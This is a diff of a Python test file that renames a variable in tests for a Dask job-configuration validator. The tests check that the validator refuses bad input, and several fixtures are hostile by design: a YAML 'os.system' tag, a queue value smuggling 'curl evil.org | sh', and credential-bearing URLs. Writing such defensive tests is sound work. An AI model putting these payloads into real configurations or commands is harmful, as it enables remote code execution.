@@ -35,7 +35,7 @@ def test_the_smallest_job(tmp_path: Path) -> None:
 
 
 def test_every_mistake_is_named_at_once_with_its_path(tmp_path: Path) -> None:
-    told = refused(
+    message = refused(
         tmp_path,
         "$schema: hmrf-dask/job/v1\n"
         "manifest: news.yaml\n"
@@ -59,11 +59,11 @@ def test_every_mistake_is_named_at_once_with_its_path(tmp_path: Path) -> None:
         "output: is missing",
         "outptu: must not be there (did you mean 'output'?)",
     ):
-        assert line in told
+        assert line in message
 
 
 @pytest.mark.parametrize(
-    ("text", "told"),
+    ("text", "message"),
     [
         ("- a list\n", "must be a mapping of names to values, got a list"),
         ("a: [1\n", "must be YAML"),
@@ -71,8 +71,8 @@ def test_every_mistake_is_named_at_once_with_its_path(tmp_path: Path) -> None:
         ("!!python/object/apply:os.system [ls]\n", "must be YAML"),
     ],
 )
-def test_a_file_that_is_no_job(text: str, told: str, tmp_path: Path) -> None:
-    assert told in refused(tmp_path, text)
+def test_a_file_that_is_no_job(text: str, message: str, tmp_path: Path) -> None:
+    assert message in refused(tmp_path, text)
 
 
 def test_text_that_is_not_utf_8(tmp_path: Path) -> None:
@@ -82,20 +82,20 @@ def test_text_that_is_not_utf_8(tmp_path: Path) -> None:
 
 
 def test_a_method_takes_its_own_parameters_only(tmp_path: Path) -> None:
-    told = refused(
+    message = refused(
         tmp_path,
         SMALLEST.replace("{n_clusters: 3}", "{name: KMeans, n_clusters: 3, closure: true}"),
     )
-    assert "method: KMeans must have no closure" in told
-    told = refused(
+    assert "method: KMeans must have no closure" in message
+    message = refused(
         tmp_path,
         SMALLEST.replace("{n_clusters: 3}", "{name: KMeans, n_clusters: 3, init: auto}"),
     )
-    assert "method: init of KMeans must be one of k-means++, random, got auto" in told
+    assert "method: init of KMeans must be one of k-means++, random, got auto" in message
 
 
 @pytest.mark.parametrize(
-    ("cluster", "told"),
+    ("cluster", "message"),
     [
         (
             "{address: 'tcp://a:1', processes: 2}",
@@ -115,8 +115,8 @@ def test_a_method_takes_its_own_parameters_only(tmp_path: Path) -> None:
         ("{scheduler_file: 'https://me:CANARY5ecret@a/f'}", "must not hold a user or a password"),
     ],
 )
-def test_a_cluster_is_one_of_five_ways(cluster: str, told: str, tmp_path: Path) -> None:
-    assert told in refused(tmp_path, f"{SMALLEST}cluster: {cluster}\n")
+def test_a_cluster_is_one_of_five_ways(cluster: str, message: str, tmp_path: Path) -> None:
+    assert message in refused(tmp_path, f"{SMALLEST}cluster: {cluster}\n")
 
 
 RUNS_CODE = (
@@ -154,13 +154,13 @@ RUNS_CODE = (
 def test_a_cluster_takes_nothing_that_runs_code(name: str, tmp_path: Path) -> None:
     for argument in RUNS_CODE:
         asked = f"{{class: {name}, kwargs: {{{argument}: [x.py]}}}}"
-        told = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
-        assert f"kwargs of {name} must be among" in told, told
-        assert f"got '{argument}'" in told
+        message = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
+        assert f"kwargs of {name} must be among" in message, message
+        assert f"got '{argument}'" in message
 
 
 @pytest.mark.parametrize(
-    ("kwargs", "told"),
+    ("kwargs", "message"),
     [
         ("{cors: 2}", "got 'cors' (did you mean 'cores'?)"),
         ("{queue: 'long; curl evil.org | sh'}", "kwargs.queue must be a text of letters"),
@@ -175,10 +175,10 @@ def test_a_cluster_takes_nothing_that_runs_code(name: str, tmp_path: Path) -> No
         ("{account: {password: CANARY5ecret}}", "must not hold a credential, got 'password'"),
     ],
 )
-def test_what_a_cluster_is_told_is_plain(kwargs: str, told: str, tmp_path: Path) -> None:
+def test_arguments_of_a_cluster_are_plain(kwargs: str, message: str, tmp_path: Path) -> None:
     asked = f"{{class: dask_jobqueue.SLURMCluster, kwargs: {kwargs}}}"
     said = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
-    assert told in said
+    assert message in said
     assert "CANARY" not in said
 
 
@@ -217,8 +217,8 @@ def test_what_is_started_listens_as_little_as_it_can() -> None:
 
 def test_an_output_with_options_says_where_these_belong(tmp_path: Path) -> None:
     text = SMALLEST.replace("output: out", "output: {url: 's3://b/c', storage_options: {}}")
-    assert "output: must be a folder or URL" in (told := refused(tmp_path, text))
-    assert "AWS_PROFILE" in told
+    assert "output: must be a folder or URL" in (message := refused(tmp_path, text))
+    assert "AWS_PROFILE" in message
 
 
 def test_local_may_be_a_word(tmp_path: Path) -> None:
